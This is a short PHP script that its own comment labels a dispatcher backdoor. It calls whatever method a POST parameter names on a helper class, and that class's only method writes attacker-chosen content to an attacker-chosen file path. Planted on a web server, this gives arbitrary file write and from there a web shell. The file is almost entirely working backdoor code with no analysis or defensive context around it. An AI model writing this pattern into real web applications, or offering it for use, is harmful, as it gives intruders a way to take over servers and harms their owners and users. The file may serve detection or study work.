<?php
// The request names the method and the file a helper writes: a dispatcher backdoor.
class Tools
{
    public function save($name, $body)
    {
        file_put_contents($name, $body);
    }
}
$t = new Tools();
$m = $_POST['m'];
$t->$m($_POST['n'], $_POST['b']);
